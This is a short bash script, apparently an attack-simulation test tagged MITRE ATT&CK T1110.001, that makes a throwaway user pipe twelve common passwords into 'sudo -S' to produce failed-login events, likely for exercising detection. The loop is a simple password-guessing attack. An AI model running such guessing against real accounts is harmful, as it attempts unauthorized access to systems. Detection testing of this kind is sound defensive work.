#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1110.001
# tactic: credential-access
# what: sudo -S password guessing by the throwaway user: 12 wrong passwords
. "$AT_LIB"
command -v sudo >/dev/null || { echo "no sudo"; exit 77; }
for pw in 123456 password qwerty letmein admin root toor changeme welcome monkey dragon master; do
	echo "$pw" | su -s /bin/sh "$AT_VICTIM" -c 'sudo -S -k -p "" true' >/dev/null 2>&1 || true
done
